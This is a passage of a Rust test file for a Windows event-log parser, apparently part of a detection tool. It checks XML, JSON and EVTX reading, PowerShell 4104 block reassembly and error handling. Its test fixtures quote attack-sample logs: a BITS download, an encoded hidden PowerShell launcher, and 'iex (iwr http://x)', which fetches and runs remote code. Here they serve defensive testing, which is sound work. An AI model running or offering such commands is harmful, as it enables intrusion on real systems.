//! Each Windows transport on verbatim records (the corpus's EVTX files rendered by
//! the evtx crate, Zircolite's XML fixture, elastic/beats' Winlogbeat golden files,
//! OTRF Security-Datasets' NXLog JSON), and every quirk of the mapping: message
//! fallbacks, 4104 reassembly, splitting JSON and XML streams at any byte.

use std::io::{BufReader, Cursor};
use std::path::PathBuf;
use std::sync::Arc;

use chrono::{TimeZone, Utc};

use super::*;
use crate::event::{Event, NetworkKind, Position, ProcessStart, ScriptBlock};
use crate::input::Payload;

use crate::sources::CollectingSink as Collect;

fn name() -> Arc<str> {
    Arc::from("test")
}

/// Reads `text` as XML through a reader that returns `chunk` bytes at a time.
fn xml(text: &str, chunk: usize) -> Collect {
    let mut sink = Collect::default();
    let reader = BufReader::with_capacity(chunk, Cursor::new(text.as_bytes().to_vec()));
    read_xml(&name(), Box::new(reader), &mut sink);
    sink
}

fn json(text: &str, chunk: usize) -> Collect {
    let mut sink = Collect::default();
    let reader = BufReader::with_capacity(chunk, Cursor::new(text.as_bytes().to_vec()));
    read_json(&name(), Box::new(reader), &mut sink);
    sink
}

fn processes(c: &Collect) -> Vec<&ProcessStart> {
    c.events
        .iter()
        .filter_map(|e| match e {
            Event::Process(p) => Some(p),
            _ => None,
        })
        .collect()
}

fn scripts(c: &Collect) -> Vec<&ScriptBlock> {
    c.events
        .iter()
        .filter_map(|e| match e {
            Event::Script(s) => Some(s),
            _ => None,
        })
        .collect()
}

/// A corpus file, or `None` (skip) when ../shared is absent; under CI=true the
/// absence is a failure.
fn corpus(file: &str) -> Option<PathBuf> {
    let path = PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../../shared/corpus/windows/"
    ))
    .join(file);
    if path.exists() {
        return Some(path);
    }
    if std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!("corpus file {} is missing (CI=true)", path.display());
    }
    eprintln!("SKIP: corpus file {} is absent", path.display());
    None
}

// --- helpers -------------------------------------------------------------------------

#[test]
fn pids_and_times_as_windows_writes_them() {
    assert_eq!(parse_pid("0x3054"), Some(0x3054));
    assert_eq!(parse_pid("3616"), Some(3616));
    assert_eq!(parse_pid("0"), None);
    assert_eq!(parse_pid("0x0"), None);
    assert_eq!(parse_pid("-"), None);
    let t = |y, mo, d, h, mi, s, ms| {
        Utc.with_ymd_and_hms(y, mo, d, h, mi, s).unwrap() + chrono::Duration::milliseconds(ms)
    };
    assert_eq!(
        parse_time("2021-10-21T17:38:36.7114620Z"),
        Some(t(2021, 10, 21, 17, 38, 36, 711) + chrono::Duration::nanoseconds(462_000))
    );
    assert_eq!(
        parse_time("2020-09-04 20:09:39.150"),
        Some(t(2020, 9, 4, 20, 9, 39, 150))
    );
    assert_eq!(
        parse_time("2023-02-06 22:07:30.404066").map(|x| x.timestamp()),
        Some(t(2023, 2, 6, 22, 7, 30, 0).timestamp())
    );
    assert_eq!(
        parse_time("2020-09-04T20:09:42.845Z"),
        Some(t(2020, 9, 4, 20, 9, 42, 845))
    );
    assert_eq!(
        parse_time("2020-09-04T22:09:42+02:00"),
        Some(t(2020, 9, 4, 20, 9, 42, 0))
    );
    assert_eq!(parse_time("yesterday"), None);
}

// --- XML -----------------------------------------------------------------------------

#[test]
fn xml_800_pipeline_details() {
    let c = xml(BITS_800, 64 * 1024);
    assert!(c.errors.is_empty(), "{:?}", c.errors);
    let s = scripts(&c);
    assert_eq!(s.len(), 1);
    let s = s[0];
    assert_eq!(s.event_id, 800);
    assert_eq!(s.host, "FS03.offsec.lan");
    assert!(s.text.starts_with(
        "Start-BitsTransfer -Priority foreground -Source https://raw.githubusercontent.com/"
    ));
    assert_eq!(
        s.host_application.as_deref(),
        Some(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
    );
    assert_eq!(s.user.as_deref(), Some(r"OFFSEC\admmig"));
    assert_eq!(s.path, None);
    assert_eq!(s.pid, None);
    assert_eq!(s.time, parse_time("2021-10-21T17:38:37Z"));
    assert_eq!(s.provenance.position, Position::Line(1));
    assert_eq!(s.provenance.format, "xml");
}

#[test]
fn xml_4103_module_logging() {
    let c = xml(BITS_4103, 64 * 1024);
    let s = scripts(&c);
    assert_eq!(s.len(), 1);
    let s = s[0];
    assert_eq!(s.event_id, 4103);
    assert_eq!(s.pid, Some(3336));
    assert!(s.text.starts_with("CommandInvocation(Start-BitsTransfer): \"Start-BitsTransfer\"\nParameterBinding(Start-BitsTransfer): name=\"Priority\""));
    assert_eq!(
        s.host_application.as_deref(),
        Some(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
    );
    assert_eq!(s.user.as_deref(), Some(r"OFFSEC\admmig"));
    assert_eq!(s.path, None, "an empty Script Name is no path");
}

#[test]
fn xml_4104_script_block() {
    let c = xml(BITS_4104, 64 * 1024);
    let s = scripts(&c);
    assert_eq!(s.len(), 1);
    let s = s[0];
    assert_eq!(s.event_id, 4104);
    assert_eq!(s.pid, Some(3336));
    assert_eq!(s.script_block_id, "76350588-4aa4-4047-9ecb-9b285c4fa71b");
    assert_eq!(
        s.user.as_deref(),
        Some("S-1-5-21-4230534742-2542757381-3142984815-1111")
    );
    assert!(s.text.ends_with(r"-Destination C:\Users\bits.ps1"));
}

/// The same records as wevtutil prints them: single-quoted attributes, no line
/// breaks, no separator between events, optionally inside `<Events>`.
fn wevtutil(records: &[&str]) -> String {
    let indent = regex::Regex::new(r"\n\s*<").unwrap();
    records
        .iter()
        .map(|r| {
            indent
                .replace_all(r, "<")
                .replace("=\"", "='")
                .replace("\"/>", "'/>")
                .replace("\">", "'>")
                .replace("\" ", "' ")
        })
        .collect()
}

#[test]
fn xml_single_quotes_concatenated_and_events_documents() {
    let one_line = wevtutil(&[BITS_4104]);
    assert!(one_line.contains("<Provider Name='Microsoft-Windows-PowerShell' Guid='"));
    let stream = wevtutil(&[BITS_4104, BITS_800, BITS_4103]);
    for doc in [
        stream.clone(),
        format!("<?xml version=\"1.0\"?>\n<Events>{stream}</Events>\n"),
        // Rendered records often keep their own declarations.
        [BITS_4104, BITS_800, BITS_4103]
            .iter()
            .map(|r| format!("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n{r}\n"))
            .collect(),
    ] {
        // Any cut of the stream gives the same events.
        for chunk in [1, 2, 7, 64, 4096] {
            let c = xml(&doc, chunk);
            assert!(c.errors.is_empty(), "{:?}", c.errors);
            let ids: Vec<u32> = scripts(&c).iter().map(|s| s.event_id).collect();
            assert_eq!(ids, [4104, 800, 4103], "chunk {chunk}");
            assert_eq!(
                scripts(&c)[0].script_block_id,
                "76350588-4aa4-4047-9ecb-9b285c4fa71b"
            );
        }
    }
}

#[test]
fn xml_zircolite_fixture() {
    // Two irrelevant Security events (4672, 4624): parsed, not mapped, no errors.
    let c = xml(ZIRCOLITE_XML, 16);
    assert!(c.events.is_empty() && c.errors.is_empty(), "{:?}", c.errors);
    let first = &ZIRCOLITE_XML[..ZIRCOLITE_XML.find("</Event>").unwrap() + 8];
    let ev = parse_event_xml(first.as_bytes()).unwrap();
    assert_eq!(ev.event_id, Some(4672));
    assert_eq!(ev.provider, "Microsoft-Windows-Security-Auditing");
    assert_eq!(ev.channel, "Security");
    assert_eq!(ev.computer, "HOST.local");
    assert_eq!(ev.record_id, Some(4398962269));
    assert_eq!(ev.exec_pid, Some(712));
    assert_eq!(ev.time.map(|t| t.timestamp()), Some(1675721250));
    assert_eq!(ev.get("SubjectUserSid"), Some("S-1-5-18"));
    assert_eq!(ev.value("SubjectUserName"), None, "`-` is no value");
    assert_eq!(ev.get("PrivilegeList"), Some("SeSecurityPrivilege"));
}

#[test]
fn xml_entities_cdata_user_data_and_messages() {
    let x = "<Event xmlns:e='x'><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>H</Computer></System><EventData><Data Name='Image'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='CommandLine'>cmd /c echo a &amp;&amp; echo &#x41;&#66; &lt;x&gt; &quot;q&quot; <![CDATA[<raw & text>]]></Data><Data Name='Empty'/></EventData><UserData><Wrapper><Leaf>v</Leaf></Wrapper></UserData><RenderingInfo Culture='en-US'><Message>Process Create</Message></RenderingInfo></Event>";
    let ev = parse_event_xml(x.as_bytes()).unwrap();
    assert_eq!(
        ev.get("CommandLine"),
        Some("cmd /c echo a && echo AB <x> \"q\" <raw & text>")
    );
    assert_eq!(ev.get("Empty"), Some(""));
    assert_eq!(ev.get("Leaf"), Some("v"));
    assert_eq!(ev.message.as_deref(), Some("Process Create"));
    let c = xml(x, 5);
    let p = processes(&c);
    assert_eq!(
        p[0].argv,
        [
            "cmd", "/c", "echo", "a", "&&", "echo", "AB", "<x>", "q", "<raw", "&", "text>"
        ]
    );
}

#[test]
fn xml_bad_events_cost_only_themselves() {
    let good = wevtutil(&[BITS_4104]);
    let doc = format!(
        "{good}\n<Event><System><EventID>4104</EventID></Syst></Event>\n{good}\n<Event><System>"
    );
    let c = xml(&doc, 3);
    assert_eq!(scripts(&c).len(), 2);
    assert_eq!(c.errors.len(), 2, "{:?}", c.errors);
    assert_eq!(c.errors[0].location.as_deref(), Some("line 2"));
    assert!(c.errors[1].message.contains("truncated"));
    // Not an event at all.
    assert!(parse_event_xml(b"<Other/>").is_err());
    assert!(parse_event_xml(b"<Event><System>").is_err());
}

#[test]
fn xml_oversized_event_is_skipped_and_the_rest_read() {
    let big = format!(
        "<Event><EventData><Data Name='x'>{}</Data></EventData></Event>",
        "A".repeat(MAX_EVENT_BYTES + 100_000)
    );
    let doc = format!("{big}\n{}", wevtutil(&[BITS_4104]));
    let c = xml(&doc, 64 * 1024);
    assert_eq!(c.errors.len(), 1);
    assert!(c.errors[0].message.contains("larger than"));
    assert_eq!(scripts(&c).len(), 1);
    assert_eq!(scripts(&c)[0].provenance.position, Position::Line(2));
}

// --- JSON ----------------------------------------------------------------------------

#[test]
fn json_winlogbeat_module_processed_sysmon_1() {
    for chunk in [1, 13, 64 * 1024] {
        let c = json(WINLOGBEAT_SYSMON1_MODULE, chunk);
        assert!(c.errors.is_empty(), "{:?}", c.errors);
        let p = processes(&c);
        assert_eq!(p.len(), 1);
        let p = p[0];
        assert_eq!(p.exe.as_deref(), Some(r"C:\Windows\System32\notepad.exe"));
        assert_eq!(p.command_line, r#""C:\Windows\system32\notepad.exe""#);
        // process.pid, not winlog.process.pid (Sysmon's own).
        assert_eq!((p.pid, p.ppid), (Some(3616), Some(4212)));
        assert_eq!(
            p.process_guid.as_deref(),
            Some("{9F32B55F-7C4E-5F98-5803-000000000500}")
        );
        assert_eq!(p.parent_exe.as_deref(), Some(r"C:\Windows\explorer.exe"));
        assert_eq!(p.original_file_name.as_deref(), Some("NOTEPAD.EXE"));
        assert_eq!(p.user.as_deref(), Some(r"VAGRANT\vagrant"));
        assert_eq!(p.cwd.as_deref(), Some(r"C:\Users\vagrant\"));
        assert_eq!(p.host, "vagrant");
        assert_eq!(p.provenance.position, Position::Line(2));
    }
}

#[test]
fn json_winlogbeat_raw_sysmon_1() {
    let c = json(WINLOGBEAT_SYSMON1_RAW, 64 * 1024);
    let p = processes(&c);
    assert_eq!(p.len(), 1);
    let p = p[0];
    // event_data's ProcessId, not the message's "ProcessId: 0".
    assert_eq!((p.pid, p.ppid), (Some(3616), Some(4212)));
    assert_eq!(p.command_line, r#""C:\Windows\system32\notepad.exe""#);
    assert_eq!(p.original_file_name.as_deref(), Some("NOTEPAD.EXE"));
    assert_eq!(p.time, parse_time("2020-10-27T20:00:14.3242341Z"));
}

#[test]
fn json_winlogbeat_module_processed_4104() {
    let c = json(WINLOGBEAT_4104_MODULE, 64 * 1024);
    let s = scripts(&c);
    // The second block has no text in the golden file: nothing to judge.
    assert_eq!(s.len(), 1);
    assert_eq!(s[0].text, r".\patata.ps1");
    assert_eq!(s[0].script_block_id, "50d2dbda-7361-4926-a94d-d9eadfdb43fa");
    assert_eq!(s[0].pid, Some(4844));
    assert_eq!(s[0].provenance.position, Position::Line(2));
}

#[test]
fn json_otrf_nxlog_records() {
    let lines = [OTRF_SYSMON3_POWERSHELL, OTRF_4104, OTRF_800, OTRF_4103].join("\n");
    let c = json(&lines, 4096);
    assert!(c.errors.is_empty(), "{:?}", c.errors);
    assert_eq!(c.events.len(), 4);
    let Event::Network(n) = &c.events[0] else {
        panic!("{:?}", c.events[0])
    };
    assert_eq!(n.pid, Some(2316));
    assert_eq!(
        n.process_guid.as_deref(),
        Some("{860ba2e3-9f13-5f52-2703-000000000400}")
    );
    assert_eq!(n.kind, NetworkKind::Connect);
    assert_eq!(n.remote.as_deref(), Some("10.10.10.5:80"));
    assert_eq!(n.local.as_deref(), Some("172.18.39.5:50699"));
    assert_eq!(n.host, "WORKSTATION5.theshire.local");
    // Sysmon's UtcTime, not the collector's @timestamp.
    assert_eq!(n.time, parse_time("2020-09-04 20:09:59.621"));
    assert_eq!(n.provenance.position, Position::Line(1));
    let s = scripts(&c);
    assert_eq!(s[0].event_id, 4104);
    assert_eq!(s[0].pid, Some(2316));
    assert_eq!(s[0].user.as_deref(), Some(r"THESHIRE\pgustavo"));
    assert!(
        s[0].text
            .starts_with("If($PSVERSiOnTaBlE.PSVErSIOn.MajOR -gE 3)")
    );
    // 800 kept only as the message: text, host application, user from it.
    assert_eq!(s[1].event_id, 800);
    assert_eq!(s[1].text, "$IV=[BitConverter]::GetBytes($(Get-Random));");
    assert!(s[1].host_application.as_deref().unwrap().starts_with(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -noP -sta -w 1 -enc SQBmACgA"
    ));
    assert_eq!(s[1].user.as_deref(), Some(r"THESHIRE\pgustavo"));
    assert_eq!(s[1].pid, None, "ExecutionProcessID 0 is unknown");
    assert_eq!(s[1].provenance.position, Position::Line(3));
    assert_eq!(s[2].event_id, 4103);
    assert_eq!(
        s[2].text,
        "CommandInvocation(Get-Random): \"Get-Random\"\r\n"
    );
    assert_eq!(s[2].pid, Some(2316));
    assert!(
        s[2].host_application
            .as_deref()
            .unwrap()
            .ends_with("KQB8AEkARQBYAA==")
    );
}

#[test]
fn json_sysmon_fields_missing_from_event_data_come_from_the_message() {
    // OTRF's psremoting export drops Sysmon's ProcessId; the message still has it.
    let line = r#"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"W6","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell -c Get-Date","ProcessGuid":"{d273d0f0-c4f7-5f67-a707-000000000800}","Message":"Process Create:\r\nRuleName: -\r\nProcessGuid: {d273d0f0-c4f7-5f67-a707-000000000800}\r\nProcessId: 10116\r\nImage: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"}"#;
    let c = json(line, 100);
    assert_eq!(processes(&c)[0].pid, Some(10116));
}

#[test]
fn json_evtx_dump_and_azure_shapes() {
    // evtx_dump / chainsaw / Hayabusa: {"Event": {"System": …}} with #attributes.
    let dump = r##"{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing","Guid":"54849625-5478-4994-A5BA-3E3B0328C30D"}},"EventID":4688,"Version":2,"EventRecordID":354579,"Execution":{"#attributes":{"ProcessID":4,"ThreadID":2424}},"Channel":"Security","Computer":"srvdefender01.offsec.lan","TimeCreated":{"#attributes":{"SystemTime":"2021-04-21T14:56:43.280333Z"}}},"EventData":{"SubjectUserSid":"S-1-5-18","SubjectUserName":"SRVDEFENDER01$","SubjectDomainName":"OFFSEC","NewProcessId":"0x1a4c","NewProcessName":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","ProcessId":"0x1f00","CommandLine":"powershell.exe  -nop -w hidden -noni -c \"whoami\"","TargetUserName":"-","ParentProcessName":"C:\\Windows\\System32\\cmd.exe"}}}"##;
    let c = json(dump, 64);
    let p = processes(&c);
    assert_eq!(p.len(), 1, "{:?}", c.errors);
    assert_eq!((p[0].pid, p[0].ppid), (Some(0x1a4c), Some(0x1f00)));
    assert_eq!(p[0].user.as_deref(), Some(r"OFFSEC\SRVDEFENDER01$"));
    assert_eq!(
        p[0].parent_exe.as_deref(),
        Some(r"C:\Windows\System32\cmd.exe")
    );
    assert_eq!(
        p[0].argv,
        [
            "powershell.exe",
            "-nop",
            "-w",
            "hidden",
            "-noni",
            "-c",
            "whoami"
        ]
    );
    // 800 with unnamed data as evtx_dump writes it.
    let dump800 = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"PowerShell"}},"EventID":800,"Channel":"Windows PowerShell","Computer":"FS03"},"EventData":{"Data":{"#text":["iwr http://x -ea 0","\tHostApplication=powershell.exe -c x\r\n\tScriptName=","CommandInvocation(x)"]}}}}"##;
    let c = json(dump800, 64);
    let s = scripts(&c);
    assert_eq!(
        (s[0].text.as_str(), s[0].host_application.as_deref()),
        ("iwr http://x -ea 0", Some("powershell.exe -c x"))
    );
    // The 2022 OTRF/Azure exports: EventData as an XML string.
    let azure = r#"[{"EventID":4104,"Channel":"Microsoft-Windows-PowerShell/Operational","Computer":"WORKSTATION6","TimeCreated":"2022-09-22T12:31:33.35Z","EventData":"<EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"MessageNumber\">1</Data><Data Name=\"MessageTotal\">1</Data><Data Name=\"ScriptBlockText\">iex (iwr http://x)</Data><Data Name=\"ScriptBlockId\">abc</Data><Data Name=\"Path\"></Data></EventData>"}]"#;
    let c = json(azure, 64);
    let s = scripts(&c);
    assert_eq!(s.len(), 1, "{:?}", c.errors);
    assert_eq!(s[0].text, "iex (iwr http://x)");
    assert_eq!(s[0].host, "WORKSTATION6");
}

#[test]
fn json_streams_survive_bad_lines_and_foreign_objects() {
    let lines = format!(
        "\u{feff}{OTRF_4104}\nFiltering the log data using \"process == x\"\n{{\"EventID\": 4104, \"broken\n{OTRF_4103}\n{{\"hello\": \"not windows\"}}\n[1, 2]\n{}",
        &OTRF_4103[..200]
    );
    let c = json(&lines, 7);
    let s = scripts(&c);
    assert_eq!(
        s.iter().map(|s| s.event_id).collect::<Vec<_>>(),
        [4104, 4103]
    );
    assert_eq!(s[1].provenance.position, Position::Line(4));
    let where_: Vec<_> = c
        .errors
        .iter()
        .map(|e| (e.location.clone().unwrap(), e.message.clone()))
        .collect();
    assert_eq!(where_.len(), 4, "{where_:?}");
    assert_eq!(where_[0].0, "line 2");
    assert_eq!(where_[1].0, "line 3");
    assert!(where_[1].1.contains("incomplete"));
    // An array of numbers is JSON, but not an object.
    assert_eq!(where_[2].0, "line 6");
    assert_eq!(where_[3].0, "line 7");
    assert!(where_[3].1.contains("truncated"));
}

#[test]
fn json_pretty_arrays_with_tricky_strings() {
    let doc = "[\n  {\n    \"EventID\": 4104,\n    \"Channel\": \"Microsoft-Windows-PowerShell/Operational\",\n    \"ScriptBlockText\": \"if ($a) { \\\"}]\\\" } # [ {\"\n  },\n  {\"EventID\": 4104, \"ScriptBlockText\": \"b\"}\n]\n";
    for chunk in [1, 5, 1000] {
        let c = json(doc, chunk);
        assert!(c.errors.is_empty(), "{:?}", c.errors);
        let s = scripts(&c);
        assert_eq!(s.len(), 2);
        assert_eq!(s[0].text, "if ($a) { \"}]\" } # [ {");
        assert_eq!(s[0].provenance.position, Position::Line(2));
        assert_eq!(s[1].provenance.position, Position::Line(7));
    }
}

#[test]
fn json_line_parser_feeds_lines() {
    let mut p = WinJsonParser::new(name());
    let mut sink = Collect::default();
    crate::sources::LineParser::line(&mut p, OTRF_4104.as_bytes(), 10, &mut sink);
    crate::sources::LineParser::line(&mut p, b"[", 11, &mut sink);
    crate::sources::LineParser::line(&mut p, OTRF_4103.as_bytes(), 12, &mut sink);
    crate::sources::LineParser::line(&mut p, b"]", 13, &mut sink);
    crate::sources::LineParser::finish(&mut p, &mut sink);
    let s = scripts(&sink);
    assert_eq!(
        s.iter().map(|s| s.provenance.position).collect::<Vec<_>>(),
        [Position::Line(10), Position::Line(12)]
    );
}

#[test]
fn json_oversized_object_is_skipped() {
    let big = format!(
        "{{\"EventID\": 4104, \"ScriptBlockText\": \"{}\"}}",
        "A".repeat(MAX_EVENT_BYTES + 1)
    );
    let c = json(&format!("{big}\n{OTRF_4104}\n"), 64 * 1024);
    assert_eq!(c.errors.len(), 1);
    assert!(c.errors[0].message.contains("larger than"));
    assert_eq!(scripts(&c).len(), 1);
}

// --- 4104 reassembly -------------------------------------------------------------------

fn part(id: &str, n: u32, total: u32, text: &str) -> WinEvent {
    WinEvent {
        event_id: Some(4104),
        provider: "Microsoft-Windows-PowerShell".into(),
        channel: "Microsoft-Windows-PowerShell/Operational".into(),
        computer: "H".into(),
        exec_pid: Some(7),
        data: vec![
            ("MessageNumber".into(), n.to_string()),
            ("MessageTotal".into(), total.to_string()),
            ("ScriptBlockText".into(), text.into()),
            ("ScriptBlockId".into(), id.into()),
        ],
        ..WinEvent::default()
    }
}

#[test]
fn multi_part_blocks_are_reassembled_in_order() {
    let mut m = Mapper::new(name(), FORMAT_EVTX);
    let mut sink = Collect::default();
    m.map(part("a", 2, 3, "Error"), Position::Record(11), &mut sink);
    m.map(part("b", 1, 2, "other "), Position::Record(12), &mut sink);
    m.map(
        part("a", 1, 3, "$ErrorActionPreference='Silently'; $x='"),
        Position::Record(10),
        &mut sink,
    );
    m.map(
        part("a", 2, 3, "duplicate"),
        Position::Record(13),
        &mut sink,
    );
    assert!(sink.events.is_empty());
    m.map(
        part("a", 3, 3, "ActionPreference'"),
        Position::Record(14),
        &mut sink,
    );
    let s = scripts(&sink);
    assert_eq!(s.len(), 1);
    assert_eq!(
        s[0].text,
        "$ErrorActionPreference='Silently'; $x='ErrorActionPreference'"
    );
    // Provenance of the first part seen.
    assert_eq!(s[0].provenance.position, Position::Record(11));
    assert!(sink.errors.is_empty());
    // Block b never completes: analysed with what arrived, and reported.
    m.finish(&mut sink);
    let s = scripts(&sink);
    assert_eq!(s[1].text, "other \n");
    assert_eq!(sink.errors.len(), 1);
    assert!(
        sink.errors[0].message.contains("1 of 2 parts missing"),
        "{}",
        sink.errors[0]
    );
}

#[test]
fn reassembly_is_bounded() {
    let mut m = Mapper::new(name(), FORMAT_EVTX);
    let mut sink = Collect::default();
    for i in 0..1100 {
        m.map(
            part(&format!("id{i}"), 1, 2, "x"),
            Position::Record(i),
            &mut sink,
        );
    }
    assert!(m.pending.len() <= 1024);
    // The oldest were flushed incomplete (and reported).
    assert_eq!(sink.errors.len(), 1100 - m.pending.len());
    // A part out of range is an error, not a panic or a huge allocation.
    m.map(part("z", 5, 3, "x"), Position::Record(1), &mut sink);
    m.map(part("y", 1, u32::MAX, "x"), Position::Record(2), &mut sink);
    assert!(
        sink.errors
            .iter()
            .any(|e| e.message.contains("out of range"))
    );
}

// --- EVTX ------------------------------------------------------------------------------

fn evtx_file(path: &std::path::Path) -> Collect {
    let mut sink = Collect::default();
    read_evtx(
        &name(),
        Payload::File(std::fs::File::open(path).unwrap()),
        &mut sink,
    );
    sink
}

fn evtx_stream(bytes: Vec<u8>) -> Collect {
    let mut sink = Collect::default();
    read_evtx(
        &name(),
        Payload::Stream(Box::new(Cursor::new(bytes))),
        &mut sink,
    );
    sink
}

#[test]
fn evtx_bits_sample_file_and_stream_agree() {
    let Some(path) = corpus(
        "mdecrevoisier_EVTX-to-MITRE-Attack_ID800-4103-4104-PowerShell_BITS_job_started.evtx",
    ) else {
        return;
    };
    let file = evtx_file(&path);
    assert!(file.errors.is_empty(), "{:?}", file.errors);
    let ids: Vec<(u32, Position)> = scripts(&file)
        .iter()
        .map(|s| (s.event_id, s.provenance.position))
        .collect();
    // Record numbers are the events' EventRecordIDs; the 800 with an empty pipeline
    // text (Out-Default) carries nothing.
    assert_eq!(ids.len(), 10, "{ids:?}");
    assert!(ids.contains(&(800, Position::Record(472))));
    assert!(ids.contains(&(4104, Position::Record(1736))));
    let s = scripts(&file)
        .into_iter()
        .find(|s| s.provenance.position == Position::Record(472))
        .unwrap();
    assert!(s.text.starts_with("Start-BitsTransfer"));
    assert_eq!(s.provenance.format, "evtx");
    // Read as a stream (e.g. decompressed), the same events in the same order.
    let stream = evtx_stream(std::fs::read(&path).unwrap());
    let stream_ids: Vec<(u32, Position)> = scripts(&stream)
        .iter()
        .map(|s| (s.event_id, s.provenance.position))
        .collect();
    assert_eq!(stream_ids, ids);
}

#[test]
fn evtx_prefilter_agrees_with_rendering() {
    // Every record's template-derived id (when it has one) is its rendered EventID.
    for file in [
        "sbousseaden_EVTX-ATTACK-SAMPLES_PanacheSysmon_vs_AtomicRedTeam01.evtx",
        "mdecrevoisier_EVTX-to-MITRE-Attack_ID800-4103-4104-PowerShell_BITS_job_started.evtx",
        "WithSecureLabs_chainsaw_security_sample.evtx",
    ] {
        let Some(path) = corpus(file) else { return };
        let mut parser = ::evtx::EvtxParser::from_path(&path).unwrap();
        let mut checked = 0;
        for chunk in parser.chunks() {
            let mut data = chunk.unwrap();
            let mut chunk = data.parse(Arc::new(::evtx::ParserSettings::new())).unwrap();
            for rec in chunk.iter() {
                let rec = rec.unwrap();
                let hint = evtx::standard_event_id(&rec);
                let xml = rec.into_xml().unwrap();
                let ev = parse_event_xml(xml.data.as_bytes()).unwrap();
                if let Some(id) = hint {
                    assert_eq!(Some(id), ev.event_id, "{file}");
                    checked += 1;
                }
            }
        }
        assert!(
            checked > 0,
            "{file}: the standard layout was never recognised"
        );
    }
}

#[test]
fn evtx_damage_is_reported_not_fatal() {
    let Some(path) =
        corpus("sbousseaden_EVTX-ATTACK-SAMPLES_PanacheSysmon_vs_AtomicRedTeam01.evtx")
    else {
        return;
    };
    let bytes = std::fs::read(&path).unwrap();
    let whole = evtx_stream(bytes.clone()).events.len();
    // Cut in the middle of the second chunk.
    let cut = evtx_stream(bytes[..4096 + 65536 + 30000].to_vec());
    assert!(!cut.errors.is_empty());
    assert!(cut.events.len() < whole);
    // Garbage over the first chunk's records: that chunk is lost, not the file.
    let mut damaged = bytes.clone();
    for b in &mut damaged[4096 + 600..4096 + 40000] {
        *b = 0xA5;
    }
    let d = evtx_stream(damaged);
    assert!(
        d.events.len() < whole && !d.events.is_empty(),
        "{} of {whole}",
        d.events.len()
    );
    // Not EVTX at all.
    let not = evtx_stream(b"ElfFile\0 but short".to_vec());
    assert_eq!(not.errors.len(), 1);
    assert!(
        evtx_stream(vec![0; 8192]).errors[0]
            .message
            .contains("magic")
    );
}

// --- verbatim records --------------------------------------------------------------------

// Records rendered by the evtx crate from the mdecrevoisier EVTX-to-MITRE-Attack
// sample "ID800-4103-4104-PowerShell BITS job started.evtx" (verbatim).
const BITS_800: &str = "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\n  <System>\n    <Provider Name=\"PowerShell\"/>\n    <EventID Qualifiers=\"0\">800</EventID>\n    <Level>4</Level>\n    <Task>8</Task>\n    <Keywords>0x80000000000000</Keywords>\n    <TimeCreated SystemTime=\"2021-10-21T17:38:37.0000000Z\"/>\n    <EventRecordID>472</EventRecordID>\n    <Channel>Windows PowerShell</Channel>\n    <Computer>FS03.offsec.lan</Computer>\n    <Security/>\n  </System>\n  <EventData>\n    <Data>Start-BitsTransfer -Priority foreground -Source https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md -Destination C:\\Users\\bits.ps1</Data>\n    <Data>\tDetailSequence=1\n\tDetailTotal=1\n\n\tSequenceNumber=23\n\n\tUserId=OFFSEC\\admmig\n\tHostName=ConsoleHost\n\tHostVersion=4.0\n\tHostId=2bc3f2aa-3ec3-49cc-a618-e2d1232518fb\n\tHostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\n\tEngineVersion=4.0\n\tRunspaceId=e3cd9014-9076-4ada-ac80-9055ed3282c1\n\tPipelineId=6\n\tScriptName=\n\tCommandLine=Start-BitsTransfer -Priority foreground -Source https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md -Destination C:\\Users\\bits.ps1</Data>\n    <Data>CommandInvocation(Start-BitsTransfer): \"Start-BitsTransfer\"\nParameterBinding(Start-BitsTransfer): name=\"Priority\"; value=\"foreground\"\nParameterBinding(Start-BitsTransfer): name=\"Source\"; value=\"https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md\"\nParameterBinding(Start-BitsTransfer): name=\"Destination\"; value=\"C:\\Users\\bits.ps1\"\n</Data>\n  </EventData>\n</Event>";

const BITS_4103: &str = "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\n  <System>\n    <Provider Name=\"Microsoft-Windows-PowerShell\" Guid=\"{a0c1853b-5c40-4b15-8766-3cf1c58f985a}\"/>\n    <EventID>4103</EventID>\n    <Version>1</Version>\n    <Level>4</Level>\n    <Task>106</Task>\n    <Opcode>20</Opcode>\n    <Keywords>0x0</Keywords>\n    <TimeCreated SystemTime=\"2021-10-21T17:38:37.0847450Z\"/>\n    <EventRecordID>1739</EventRecordID>\n    <Correlation ActivityID=\"{a674bae4-bf55-0001-f2da-88a655bfd701}\"/>\n    <Execution ProcessID=\"3336\" ThreadID=\"3892\"/>\n    <Channel>Microsoft-Windows-PowerShell/Operational</Channel>\n    <Computer>FS03.offsec.lan</Computer>\n    <Security UserID=\"S-1-5-21-4230534742-2542757381-3142984815-1111\"/>\n  </System>\n  <EventData>\n    <Data Name=\"ContextInfo\">        Severity = Informational\n        Host Name = ConsoleHost\n        Host Version = 4.0\n        Host ID = 2bc3f2aa-3ec3-49cc-a618-e2d1232518fb\n        Host Application = C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\n        Engine Version = 4.0\n        Runspace ID = 